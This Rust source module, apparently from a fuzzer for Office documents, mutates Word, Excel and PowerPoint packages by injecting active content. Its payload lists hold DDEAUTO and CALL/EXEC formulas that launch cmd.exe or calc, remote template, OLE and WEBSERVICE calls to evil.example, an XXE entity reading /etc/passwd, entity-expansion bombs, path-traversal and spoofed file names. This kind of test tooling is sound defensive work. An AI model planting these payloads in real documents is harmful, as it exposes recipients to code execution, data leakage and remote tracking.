//! Changes that want something: fields, objects, links, macros, put where a document may hold them.

use super::markup::tags;
use super::pack::Part;
use super::random::Random;

const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MICROSOFT: &str = "http://schemas.microsoft.com/office/2006/relationships";

/// Markup that acts, for the three languages. `R` stands for a relation that this change also puts in.
const SNIPPETS: &[&str] = &[
    // Fields, whole and in pieces.
    r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#,
    r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>E excel x y</w:instrText></w:r>"#,
    r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x.png" \d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#,
    r#"<w:fldSimple w:instr="DDEAUTO cmd x"><w:r><w:t>x</w:t></w:r></w:fldSimple>"#,
    r#"<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil.example\\x.docx&quot; "/>"#,
    r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#,
    r#"<w:instrText>LINK Excel.Sheet.8 "c:\\x.xls" "" \a \p</w:instrText>"#,
    r#"<w:fldChar w:fldCharType="begin"/>"#,
    r#"<w:fldChar w:fldCharType="end"/>"#,
    r#"<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="x"/><w:entryMacro w:val="AutoOpen"/><w:exitMacro w:val="x"/></w:ffData></w:fldChar>"#,
    // Word.
    r#"<w:altChunk r:id="R"/>"#,
    r#"<w:subDoc r:id="R"/>"#,
    r#"<w:object><v:shape style="width:10pt;height:10pt" onclick="x()"><v:imagedata r:id="R" src="http://evil.example/x.png"/></v:shape><o:OLEObject Type="Link" ProgID="Package" ShapeID="x" DrawAspect="Icon" ObjectID="_1" r:id="R" UpdateMode="Always"/></w:object>"#,
    r#"<w:object><w:control r:id="R" w:name="x" w:shapeid="y"/></w:object>"#,
    r#"<w:hyperlink r:id="R" w:tgtFrame="_top"><w:r><w:t>x</w:t></w:r></w:hyperlink>"#,
    r#"<w:attachedTemplate r:id="R"/>"#,
    r#"<w:mailMerge><w:mainDocumentType w:val="catalog"/><w:dataType w:val="native"/><w:connectString w:val="Provider=x"/><w:query w:val="SELECT"/><w:dataSource r:id="R"/></w:mailMerge>"#,
    r#"<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{00000000-0000-0000-0000-000000000000}"/><w:picture/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:sdtContent></w:sdt>"#,
    r#"<w:embedRegular r:id="R" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>"#,
    r#"<w:framePr w:w="1"/><w:frameset><w:frame><w:sourceFileName r:id="R"/></w:frame></w:frameset>"#,
    r#"<w:pict><v:rect style="background:url(http://evil.example/x)" href="file:///c:/x.exe" target="_top" onmouseover="x"><v:fill r:id="R" type="frame" src="\\evil.example\x" o:href="http://evil.example/y"/></v:rect></w:pict>"#,
    r#"<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x"><w:altChunk r:id="R"/></mc:Choice><mc:Fallback><w:altChunk r:id="R"/></mc:Fallback></mc:AlternateContent>"#,
    // Excel.
    r#"<c r="A1"><f>cmd|' /C calc'!A0</f><v>1</v></c>"#,
    r#"<c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f><v>1</v></c>"#,
    r#"<c r="A1"><f>HYPERLINK("\\evil.example\x","x")</f><v>1</v></c>"#,
    r#"<c r="A1"><f>[1]Sheet1!A1+CALL("kernel32","WinExec","JCJ","calc",0)</f><v>1</v></c>"#,
    r#"<c r="A1"><f t="shared" ref="A1:A9" si="0">EXEC("calc")</f><v>1</v></c>"#,
    r#"<f>RTD("x",,"y")</f>"#,
    r#"<definedName name="_xlnm.Auto_Open" hidden="1">Sheet1!$A$1</definedName>"#,
    r#"<definedName name="x" function="1" vbProcedure="1" xlm="1" macro="1">EXEC("calc")</definedName>"#,
    r#"<oleObjects><oleObject progId="Package" link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1" r:id="R"/></oleObjects>"#,
    r#"<controls><control shapeId="1" r:id="R" name="x"/></controls>"#,
    r#"<legacyDrawing r:id="R"/>"#,
    r#"<picture r:id="R"/>"#,
    r#"<externalReferences><externalReference r:id="R"/></externalReferences>"#,
    r#"<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="x" advise="1"/></ddeItems></ddeLink>"#,
    r#"<hyperlinks><hyperlink ref="A1" r:id="R" location="x" tooltip="x"/></hyperlinks>"#,
    r#"<sheet name="x" sheetId="99" state="veryHidden" r:id="R"/>"#,
    r#"<webPublishItems><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\evil.example\x"/></webPublishItems>"#,
    r#"<dataValidations><dataValidation type="custom" sqref="A1"><formula1>CALL("x")</formula1></dataValidation></dataValidations>"#,
    r#"<cfRule type="expression" priority="1"><formula>cmd|'/c calc'!A0</formula></cfRule>"#,
    // PowerPoint and drawings.
    r#"<a:hlinkClick r:id="R" action="ppaction://program"/>"#,
    r#"<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>"#,
    r#"<a:hlinkHover r:id="R" action="ppaction://ole?verb=0"/>"#,
    r#"<a:hlinkMouseOver r:id="R" action="ppaction://hlinkfile"><a:snd r:embed="R"/></a:hlinkMouseOver>"#,
    r#"<p:oleObj progId="Package" r:id="R" imgW="1" imgH="1"><p:embed/></p:oleObj>"#,
    r#"<p:oleObj progId="Package" r:id="R"><p:link updateAutomatic="1"/></p:oleObj>"#,
    r#"<p:control spid="1" name="x" r:id="R"/>"#,
    r#"<p:cmd type="verb" cmd="0"/>"#,
    r#"<a:videoFile r:link="R"/>"#,
    r#"<a:quickTimeFile r:link="R"/>"#,
    r#"<a:blip r:link="R" r:embed="R"/>"#,
    r#"<a:blip r:embed="R"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="R"/></a:ext></a:extLst></a:blip>"#,
    r#"<p:custDataLst><p:custData r:id="R"/></p:custDataLst>"#,
    r#"<c:externalData r:id="R"><c:autoUpdate val="1"/></c:externalData>"#,
    "<script>alert(1)</script>",
    r#"<x:onload xmlns:x="urn:x" onclick="x"/>"#,
];

/// A relation's type, and where it leads.
const RELATIONS: &[(&str, &str)] = &[
    ("aFChunk", "chunk.html"),
    ("subDocument", "http://evil.example/x.docx"),
    ("oleObject", "embeddings/oleObject1.bin"),
    ("oleObject", "file:///c:/x.bin"),
    ("package", "embeddings/x.xlsx"),
    ("control", "activeX/activeX1.xml"),
    ("image", "http://evil.example/x.png"),
    ("image", "media/x.svg"),
    ("image", "media/x.emf"),
    ("image", "../../../../etc/passwd"),
    ("hyperlink", "file:///c:/windows/system32/cmd.exe"),
    ("hyperlink", "javascript:alert(1)"),
    ("hyperlink", "ms-excel:ofe|u|http://evil.example/x.xlsm"),
    ("hyperlink", "\\\\evil.example\\share"),
    ("hyperlink", "https://example.jp/"),
    ("attachedTemplate", "http://evil.example/x.dotm"),
    ("frame", "http://evil.example/"),
    ("mailMergeSource", "file:///c:/x.mdb"),
    ("externalLink", "externalLinks/externalLink1.xml"),
    ("externalLinkPath", "\\\\evil.example\\x.xlsx"),
    ("connections", "connections.xml"),
    ("queryTable", "queryTables/queryTable1.xml"),
    ("font", "fonts/font1.odttf"),
    ("customXml", "../customXml/item1.xml"),
    ("printerSettings", "printerSettings/printerSettings1.bin"),
    ("video", "http://evil.example/x.mp4"),
    ("audio", "media/x.wav"),
    ("vmlDrawing", "drawings/x.vml"),
    ("theme", "http://evil.example/theme.xml"),
    ("styles", "\\\\evil.example\\styles.xml"),
    ("MICROSOFT/vbaProject", "vbaProject.bin"),
    ("MICROSOFT/xlMacrosheet", "macrosheets/sheet1.xml"),
    ("MICROSOFT/xlIntlMacrosheet", "macrosheets/sheet1.xml"),
    ("MICROSOFT/ui/extensibility", "../customUI/customUI.xml"),
    ("MICROSOFT/keyMapCustomizations", "customizations.xml"),
    ("MICROSOFT/attachedToolbars", "attachedToolbars.bin"),
    ("MICROSOFT/activeXControlBinary", "activeX/activeX1.bin"),
];

/// Members that act, by the end of their names.
const MEMBERS: &[(&str, &str, &str)] = &[
    (
        "vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        "\u{0}VBA\u{0}Attribute VB_Name = \"AutoOpen\"",
    ),
    (
        "embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        "MZ this program cannot be run",
    ),
    (
        "activeX/activeX1.xml",
        "application/vnd.ms-office.activeX+xml",
        "<ax:ocx ax:classid=\"{x}\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>",
    ),
    (
        "chunk.html",
        "text/html",
        "<html><script>alert(1)</script></html>",
    ),
    (
        "macrosheets/sheet1.xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc\")</f></c></row></sheetData></xm:macrosheet>",
    ),
    (
        "externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
    ),
    (
        "fonts/font1.odttf",
        "application/vnd.openxmlformats-officedocument.obfuscatedFont",
        "\u{0}\u{1}font",
    ),
    (
        "media/x.svg",
        "image/svg+xml",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>1</script></svg>",
    ),
    (
        "connections.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example\"/></connection></connections>",
    ),
    (
        "webextensions/taskpanes.xml",
        "application/vnd.ms-office.webextensiontaskpanes+xml",
        "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"/>",
    ),
];

/// Content types of main parts that may change places.
const MAIN: &[&str] = &[
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    "application/vnd.ms-excel.macrosheet+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "application/vnd.ms-office.vbaProject",
    "application/vnd.ms-office.activeX+xml",
];

/// One change of this kind.
pub(super) fn change(parts: &mut Vec<Part>, random: &mut Random) -> &'static str {
    match random.below(12) {
        0..=3 => snippet(parts, random),
        4 => {
            let relations: Vec<usize> = ending(parts, ".rels");
            if let Some(at) = some(&relations, random) {
                relation(&mut parts[at], random);
            }
            "relation added"
        }
        5 => {
            let relations: Vec<usize> = ending(parts, ".rels");
            if let Some(at) = some(&relations, random) {
                let text = String::from_utf8_lossy(&parts[at].body).into_owned();
                let (kind, target) = random.one(RELATIONS);
                let changed = match random.below(3) {
                    0 => text.replacen(
                        "Target=\"",
                        &format!("TargetMode=\"External\" Target=\"{target}\" x=\""),
                        1,
                    ),
                    1 => text.replacen("Type=\"", &format!("Type=\"{}\" x=\"", whole(kind)), 1),
                    _ => text.replacen(
                        " Target=",
                        " TargetMode=\"External\" Target=",
                        1 + random.below(3),
                    ),
                };
                parts[at].body = changed.into_bytes();
            }
            "relation changed"
        }
        6 => {
            let (name, kind, body) = random.one(MEMBERS);
            let folder = main_folder(parts);
            let name = format!("{folder}/{name}");
            let entry = format!("<Override PartName=\"/{name}\" ContentType=\"{kind}\"/>");
            put_type(parts, &entry);
            parts.push(Part {
                name,
                body: body.as_bytes().to_vec(),
            });
            "member added"
        }
        7 => {
            if let Some(types) = parts.iter_mut().find(|p| p.name == "[Content_Types].xml") {
                let text = String::from_utf8_lossy(&types.body).into_owned();
                let old = text
                    .split("ContentType=\"")
                    .nth(1 + random.below(8))
                    .and_then(|r| r.split('"').next());
                if let Some(old) = old.map(str::to_owned) {
                    types.body = text
                        .replacen(&old, MAIN[random.below(MAIN.len())], 1)
                        .into_bytes();
                }
            }
            "content type changed"
        }
        8 => {
            let at = random.below(parts.len());
            let doctype = *random.one(&[
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
                "<?mso-application progid=\"Word.Document\"?>",
                "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>",
            ]);
            let body = &mut parts[at].body;
            let after = body
                .windows(2)
                .position(|w| w == b"?>")
                .map_or(0, |at| at + 2);
            body.splice(after..after, doctype.bytes());
            "declaration added"
        }
        9 => {
            let at = random.below(parts.len());
            let name = (*random.one(&[
                "../../evil.xml",
                "/abs.xml",
                "x\\y.xml",
                "word/vbaProject.bin",
                "_rels/.rels",
                "CON.xml",
                "a\u{202e}lmx.exe",
            ]))
            .to_owned();
            if random.chance(50) {
                parts[at].name = name;
            } else {
                let copy = Part {
                    name: parts[at].name.clone(),
                    body: b"<x/>".to_vec(),
                };
                parts.insert(random.below(parts.len()), copy);
            }
            "name changed or doubled"
        }
        10 => {
            let at = random.below(parts.len());
            let text = String::from_utf8_lossy(&parts[at].body).into_owned();
            if text.starts_with('<') {
                let mut wide = vec![0xff, 0xfe];
                wide.extend(
                    text.replace("UTF-8", "UTF-16")
                        .encode_utf16()
                        .flat_map(u16::to_le_bytes),
                );
                parts[at].body = wide;
            }
            "written in UTF-16"
        }
        _ => {
            let (a, b) = (random.below(parts.len()), random.below(parts.len()));
            let body = parts[a].body.clone();
            parts[a].body = std::mem::replace(&mut parts[b].body, body);
            "parts swapped"
        }
    }
}

/// Markup that acts, with its relation, between two tags of a part.
fn snippet(parts: &mut [Part], random: &mut Random) -> &'static str {
    let folder = main_folder(parts);
    let chosen: Vec<usize> = ending(parts, ".xml")
        .into_iter()
        .filter(|at| parts[*at].name.starts_with(&folder))
        .collect();
    let Some(at) = some(&chosen, random) else {
        return "nothing";
    };
    let tags = tags(&parts[at].body);
    let Some(tag) = tags.get(random.below(tags.len())).cloned() else {
        return "nothing";
    };
    let id = format!("rId{}", 900 + random.below(90));
    let text = random.one(SNIPPETS).replace("\"R\"", &format!("\"{id}\""));
    parts[at].body.splice(tag.end..tag.end, text.bytes());
    let own = parts[at]
        .name
        .rsplit_once('/')
        .map(|(folder, file)| format!("{folder}/_rels/{file}.rels"));
    if let Some(rels) = parts.iter_mut().find(|p| Some(&p.name) == own.as_ref()) {
        relation_of(rels, &id, random);
    }
    // Prefixes that the part did not declare make it malformed; most of the time that would teach nothing.
    if random.chance(95) {
        declare(&mut parts[at].body);
    }
    "markup that acts"
}

/// Declares the prefixes of the snippets where a part does not.
fn declare(body: &mut Vec<u8>) {
    const PREFIXES: &[(&str, &str)] = &[
        (
            "w",
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        ),
        ("r", OFFICE),
        ("v", "urn:schemas-microsoft-com:vml"),
        ("o", "urn:schemas-microsoft-com:office:office"),
        ("a", "http://schemas.openxmlformats.org/drawingml/2006/main"),
        (
            "p",
            "http://schemas.openxmlformats.org/presentationml/2006/main",
        ),
        (
            "c",
            "http://schemas.openxmlformats.org/drawingml/2006/chart",
        ),
    ];
    let Some(root) = tags(body)
        .into_iter()
        .find(|t| body.get(t.start + 1).is_some_and(u8::is_ascii_alphabetic))
    else {
        return;
    };
    let text = String::from_utf8_lossy(&body[root.clone()]).into_owned();
    let mut missing = String::new();
    for (prefix, space) in PREFIXES {
        if !text.contains(&format!("xmlns:{prefix}=")) {
            missing = format!("{missing} xmlns:{prefix}=\"{space}\"");
        }
    }
    let end = if text.ends_with("/>") {
        root.end - 2
    } else {
        root.end - 1
    };
    body.splice(end..end, missing.bytes());
}

fn relation(part: &mut Part, random: &mut Random) {
    let id = format!("rId{}", random.below(30));
    relation_of(part, &id, random);
}

fn relation_of(part: &mut Part, id: &str, random: &mut Random) {
    let (kind, target) = random.one(RELATIONS);
    let external = target.contains("://")
        || target.contains(':')
        || target.starts_with('\\')
        || random.chance(10);
    let mode = if external && random.chance(90) {
        " TargetMode=\"External\""
    } else {
        ""
    };
    let entry = format!(
        "<Relationship Id=\"{id}\" Type=\"{}\" Target=\"{target}\"{mode}/>",
        whole(kind)
    );
    let close = b"</Relationships>";
    if let Some(at) = part.body.windows(close.len()).position(|w| w == close) {
        part.body.splice(at..at, entry.bytes());
    }
}

fn whole(kind: &str) -> String {
    match kind.strip_prefix("MICROSOFT/") {
        Some(kind) => format!("{MICROSOFT}/{kind}"),
        None => format!("{OFFICE}/{kind}"),
    }
}

fn put_type(parts: &mut [Part], entry: &str) {
    if let Some(types) = parts.iter_mut().find(|p| p.name == "[Content_Types].xml") {
        let close = b"</Types>";
        if let Some(at) = types.body.windows(close.len()).position(|w| w == close) {
            types.body.splice(at..at, entry.bytes());
        }
    }
}

fn main_folder(parts: &[Part]) -> String {
    let main = ["word", "xl", "ppt"];
    let found = main
        .iter()
        .find(|f| parts.iter().any(|p| p.name.starts_with(&format!("{f}/"))));
    (*found.unwrap_or(&"word")).to_owned()
}

fn ending(parts: &[Part], end: &str) -> Vec<usize> {
    (0..parts.len())
        .filter(|at| parts[*at].name.ends_with(end))
        .collect()
}

fn some(choices: &[usize], random: &mut Random) -> Option<usize> {
    choices.get(random.below(choices.len())).copied()
}
